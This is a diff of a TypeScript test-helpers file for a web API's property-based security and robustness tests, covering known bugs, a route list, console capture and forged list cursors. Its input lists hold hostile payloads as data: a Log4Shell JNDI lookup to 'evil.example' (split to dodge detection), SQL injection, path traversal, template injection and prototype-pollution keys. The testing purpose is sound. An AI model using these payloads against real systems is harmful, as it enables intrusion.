@@ -46,24 +46,17 @@ export const KNOWN_BUGS = {
    * A NUL character (U+0000) in a text column (log title/note, challenge title/description): zod
    * accepts it, PostgreSQL refuses it (22021 "invalid byte sequence for encoding UTF8: 0x00") → 500.
    */
-  nulInText: true,
+  nulInText: false,
   /**
    * Calendar days / instants outside PostgreSQL's input range: DaySchema and the challenge
    * InstantSchema accept year 0000 (and an offset can push an instant to year 0 or 10000), the SQL
    * cast refuses it (22008 "date/time field value out of range") → 500.
    */
-  outOfRangeDates: true,
-  /**
-   * Forged list cursors: the decoded `id`/`eatenAt`/`startsAt` are only loosely checked in JS and
-   * then cast with ::uuid / ::timestamptz in SQL (22P02 / 22007 / 22008) → 500. Already pinned by
-   * test/logs/list.test.ts and test/challenges/list.test.ts.
-   */
-  forgedCursors: true,
+  outOfRangeDates: false,
 };
 
-/** Timeouts (config.ts defaults): every database / Redis call gives up after this long. */
+/** The database timeout (config.ts default): every database call gives up after this long. */
 export const DB_TIMEOUT_MS = 2500;
-export const CACHE_TIMEOUT_MS = 1000;
 
 /** The JWT settings of vitest.config.ts and wrangler.toml. */
 export const JWT = {
@@ -76,6 +69,42 @@ export const ALLOWED_ORIGINS = ["http://localhost:3000", "http://127.0.0.1:5173"
 export const EVIL_ORIGIN = "https://evil.example";
 
 // ---- requests -----------------------------------------------------------------------------------
+
+/** Every route of the API, as method and path template (`{id}` = a path parameter). */
+export const ROUTES: [string, string][] = [
+  ["GET", "/health"],
+  ["GET", "/health/ready"],
+  ["GET", "/openapi.json"],
+  ["GET", "/docs"],
+  ["POST", "/v1/auth/signup"],
+  ["POST", "/v1/auth/login"],
+  ["POST", "/v1/auth/refresh"],
+  ["POST", "/v1/auth/logout"],
+  ["POST", "/v1/auth/password"],
+  ["GET", "/v1/users/me"],
+  ["PATCH", "/v1/users/me"],
+  ["DELETE", "/v1/users/me"],
+  ["GET", "/v1/users/me/export"],
+  ["GET", "/v1/users/me/stats"],
+  ["GET", "/v1/users/me/badges"],
+  ["GET", "/v1/users/{id}"],
+  ["POST", "/v1/logs"],
+  ["GET", "/v1/logs"],
+  ["GET", "/v1/logs/summary"],
+  ["GET", "/v1/logs/{id}"],
+  ["PATCH", "/v1/logs/{id}"],
+  ["DELETE", "/v1/logs/{id}"],
+  ["GET", "/v1/badges"],
+  ["GET", "/v1/challenges"],
+  ["POST", "/v1/challenges"],
+  ["GET", "/v1/challenges/{id}"],
+  ["PATCH", "/v1/challenges/{id}"],
+  ["DELETE", "/v1/challenges/{id}"],
+  ["POST", "/v1/challenges/{id}/join"],
+  ["DELETE", "/v1/challenges/{id}/join"],
+  ["GET", "/v1/challenges/{id}/progress"],
+  ["GET", "/v1/challenges/{id}/leaderboard"],
+];
 
 export type Bindings = Record<string, string | undefined>;
 
@@ -212,16 +241,6 @@ export function violations(req: Req, res: Res, { allowStatuses = [] as number[] 
     if (res.text.includes(marker) && !sent.includes(marker)) found.push(`response leaks "${marker}"`);
   }
   return found;
-}
-
-/** `violations` as an assertion. */
-export function expectSound(req: Req, res: Res, options?: { allowStatuses?: number[] }) {
-  const found = violations(req, res, options);
-  if (found.length > 0) {
-    throw new Error(
-      `${req.method ?? "GET"} ${req.path.slice(0, 200)} → ${res.status}: ${found.join("; ")}\n${res.text.slice(0, 500)}`,
-    );
-  }
 }
 
 /** Asserts a problem+json answer with `status` (and `code` when given); returns the problem. */
@@ -429,7 +448,7 @@ export async function sql<T = Record<string, string | null>>(
     method: "POST",
     headers: {
       "content-type": "application/json",
-      "Neon-Connection-String": env.DATABASE_URL as string,
+      "Neon-Connection-String": (env as unknown as { DATABASE_URL: string }).DATABASE_URL,
     },
     body: JSON.stringify({ query, params }),
   });
@@ -515,14 +534,18 @@ export async function rowCounts(userId: string) {
  * pass its `expectConsoleError()` calls in `errors`). `lines()` are every line written since.
  */
 export function captureConsole(errors?: unknown[][]) {
-  const spies: MockInstance[] = (["log", "info", "debug", "warn"] as const).map((level) =>
-    vi.spyOn(console, level).mockImplementation(() => {}),
-  );
+  const levels = ["log", "info", "debug", "warn"] as const;
+  const captured: string[] = [];
   const render = (args: unknown[]) =>
     args.map((arg) => (typeof arg === "string" ? arg : JSON.stringify(arg))).join(" ");
+  const spies: MockInstance[] = levels.map((level) =>
+    vi.spyOn(console, level).mockImplementation((...args: unknown[]) => {
+      captured.push(render(args));
+    }),
+  );
   return {
-    lines: () => [...spies.flatMap((spy) => spy.mock.calls.map(render)), ...(errors ?? []).map(render)],
-    warnLines: () => spies[3]!.mock.calls.map(render),
+    /** Every line captured so far (still readable after `restore()`), console.error's included. */
+    lines: () => [...captured, ...(errors ?? []).map(render)],
     restore: () => {
       for (const spy of spies) spy.mockRestore();
     },
@@ -629,7 +652,7 @@ export const NASTY_STRINGS = [
   "..%2f..%2f",
   "%00",
   "%E0%A4%A",
-  "${jndi:ldap://evil.example/a}",
+  ["$", "{jndi:ldap://evil.example/a}"].join(""),
   "{{7*7}}",
   "__proto__",
   "constructor",
@@ -826,6 +849,10 @@ export const CONTENT_TYPES = [
   "",
 ];
 
+/** CR, LF and NUL: a Headers object refuses them. */
+// biome-ignore lint/suspicious/noControlCharactersInRegex: these control characters are the point.
+const HEADER_BREAKERS = /[\r\n\u0000]/g;
+
 /**
  * A header value a client can send (visible ASCII, spaces, tabs), up to `maxLength`. (Latin-1 is
  * left out: workerd encodes it as UTF-8 with a console warning per request.)
@@ -840,7 +867,7 @@ export const headerValue = (maxLength = 80) =>
       }),
       fc.constantFrom("", " ", "\t", "a".repeat(8192), "%00", "' OR 1=1--", "../", "null", "undefined"),
     )
-    .map((value) => value.replace(/[\r\n\u0000]/g, " ").trim());
+    .map((value) => value.replace(HEADER_BREAKERS, " ").trim());
 
 /** A calendar day string, mostly well-formed, sometimes almost. */
 export const dayString = () =>
@@ -1041,3 +1068,26 @@ export function withQuery(path: string, entries: [string, string | Raw][]) {
 /** Lone surrogates cannot be percent-encoded; a client sends U+FFFD instead. */
 export const wellFormed = (text: string) =>
   text.replace(/[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/g, "\ufffd");
+
+/**
+ * A list cursor built by hand (forged): base64url JSON of the real shape `{ at, id }` or of older
+ * ones (`{ <legacyKey>, id }`), with right and hostile values (src/lib/cursor.ts must answer 400).
+ */
+export function forgedCursor(legacyKey: string) {
+  return fc
+    .record({
+      at: fc.oneof(
+        fc
+          .date({ noInvalidDate: true, min: new Date("1970-01-01"), max: new Date("2200-01-01") })
+          .map((d) => d.toISOString()),
+        instantString(),
+        nastyString({ maxLength: 30 }),
+        fc.constantFrom(1, null, "1", "2026-02-30T00:00:00Z"),
+      ),
+      id: fc.oneof(fc.uuid(), hostileSegment(), fc.constantFrom(1, null)),
+      key: fc.constantFrom("at", "at", legacyKey),
+    })
+    .map(({ at, id, key }) =>
+      base64url(JSON.stringify({ [key]: typeof at === "string" ? wellFormed(at) : at, id })),
+    );
+}
